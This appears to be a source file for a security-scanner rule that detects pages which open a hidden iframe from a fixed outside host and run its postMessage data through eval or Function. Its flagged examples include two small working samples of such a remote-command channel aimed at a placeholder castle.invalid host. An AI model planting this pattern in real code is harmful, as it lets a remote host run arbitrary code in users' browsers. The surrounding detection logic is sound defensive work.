import { beacons, elementsMade } from '../src/define/beacons.js';
import { functionAround, isFunction, partsWithin } from '../src/define/variables.js';
import { codeArguments, defineRule, spelling, step } from '../src/define.js';
import type { AnyNode, FileContext } from '../src/types.js';
import { hostOf } from '../src/vocabulary/services.js';

export default defineRule({
  meta: {
    summary: 'Runs what a frame of somebody else tells its page',
    why: 'A page that evaluates the messages of a frame from a fixed host does whatever that host says from then on, in everybody’s browser. Playgrounds evaluate what their own editor sends them, into a frame that they are in; workers do what their page says.',
    behaviour: 'execution',
    messages: {
      told: 'Opens a frame of {host}, and runs what messages say with {sink}',
    },
    bits: { told: 13.5 },
  },
  examples: {
    flags: [
      {
        title: 'a hidden frame says what to do',
        code: `if (typeof document !== 'undefined') {\n  const f = document.createElement('iframe');\n  f.src = 'https://w.castle.invalid/f.html';\n  f.style.display = 'none';\n  document.body.append(f);\n  addEventListener('message', e => { if (e.data.c) Function(e.data.c)(); });\n}\nmodule.exports = {};`,
      },
      {
        title: 'the frame is written as HTML, and the message is put in place of the handler',
        code: `document.body.insertAdjacentHTML('beforeend', '<iframe hidden src="https://castle.invalid/i"></iframe>');\nwindow.onmessage = function ({ data }) { (0, eval)(data); };`,
      },
    ],
    passes: [
      {
        title: 'a playground runs what its editor sends',
        code: `window.addEventListener('message', event => { if (event.origin === location.origin) eval(event.data.code); });`,
      },
      {
        title: 'a frame of a payment service tells how tall it is',
        code: `const f = document.createElement('iframe');\nf.src = 'https://pay.castle.invalid/form';\ndocument.body.append(f);\naddEventListener('message', e => { f.style.height = e.data.height + 'px'; });`,
      },
      {
        title: 'a frame is shown, and a template compiled',
        code: `const f = document.createElement('iframe');\nf.src = 'https://docs.castle.invalid/';\nexports.compile = text => new Function('data', text);\naddEventListener('message', e => console.log(e.data));`,
      },
    ],
  },
  file(context) {
    if (context.moment === 'test' || !makesFrames(context)) return;
    for (const call of context.calls('execution')) {
      const said = codeArguments(context, call).some(arg => isSaid(context, arg));
      const host = said ? frameHost(context) : undefined;
      if (host === undefined) continue;
      context.report({
        messageId: 'told',
        data: { host, sink: call.name },
        chain: [step('sink', `runs what a message says with ${call.name}`, context.file, call.node)],
      });
      return;
    }
  },
});

/** In a short file the word may be hidden. */
const SHORT = 30_000;

function makesFrames(context: FileContext): boolean {
  const { file, named, textsOf } = context;
  if (/iframe/i.test(file.text)) return true;
  if (file.text.length > SHORT) return false;
  const written = named(/\.insertAdjacentHTML$/).flatMap(({ args }) => args.flatMap(arg => textsOf(arg)));
  return elementsMade(context, 'iframe').length > 0 || written.some(text => /<iframe/i.test(text));
}

/** Whether code is made of what a handler of messages is called with. */
function isSaid(context: FileContext, code: AnyNode): boolean {
  const names = new Set(
    partsWithin(context, code, 'Identifier', 50).flatMap(node => (node.type === 'Identifier' ? [node.name] : [])),
  );
  for (let fn = functionAround(context, code); fn; fn = functionAround(context, fn)) {
    const { params } = fn as unknown as { params: readonly AnyNode[] };
    const told = params[0] ? partsWithin(context, params[0], 'Identifier', 20) : [];
    if (told.some(node => node.type === 'Identifier' && names.has(node.name)) && hears(context, fn)) return true;
  }
  return false;
}

/** `addEventListener('message', fn)` and `onmessage = fn`. */
function hears(context: FileContext, fn: AnyNode): boolean {
  const parent = context.parentOf(fn);
  if (!parent || !isFunction(fn)) return false;
  if (parent.type === 'AssignmentExpression')
    return /\bonmessage$/.test(spelling(context.file, parent.left).slice(-20));
  if (parent.type !== 'CallExpression') return false;
  const [event] = parent.arguments as readonly AnyNode[];
  return (
    /\baddEventListener$/.test(spelling(context.file, parent.callee as AnyNode).slice(-40)) &&
    event !== undefined &&
    context.textsOf(event).includes('message')
  );
}

const FRAME = /<iframe\b[^>]{0,300}\bsrc\s*=\s*\\?["']?((?:https?:)?\/\/[\w.-]{4,100})/i;

/** The fixed host of a frame that the file opens, unless the package is of that host. */
function frameHost(context: FileContext): string | undefined {
  const sources = beacons(context).flatMap(({ value, name }) => (name === 'src' ? context.textsOf(value) : []));
  const written = (context.nodes('AssignmentExpression') as readonly (AnyNode & { left: AnyNode; right: AnyNode })[])
    .filter(({ left }) => /\.src$/.test(spelling(context.file, left).slice(-10)))
    .flatMap(({ right }) => context.textsOf(right));
  const html = context
    .named(/\.(?:insertAdjacentHTML|write(?:ln)?)$/)
    .flatMap(({ args }) => args.flatMap(context.textsOf));
  const marked = [context.file.text, ...html].map(text => FRAME.exec(text)?.[1]).find(found => found !== undefined);
  return [...sources, ...written, ...(marked ? [marked] : [])]
    .filter(text => /^(?:https?:)?\/\/[\w-]{1,60}\./i.test(text) && !context.isOwnAddress(text))
    .map(text => hostOf(`${text.replace(/^(?:https?:)?/i, 'https:')}/`))
    .find(host => host !== undefined);
}
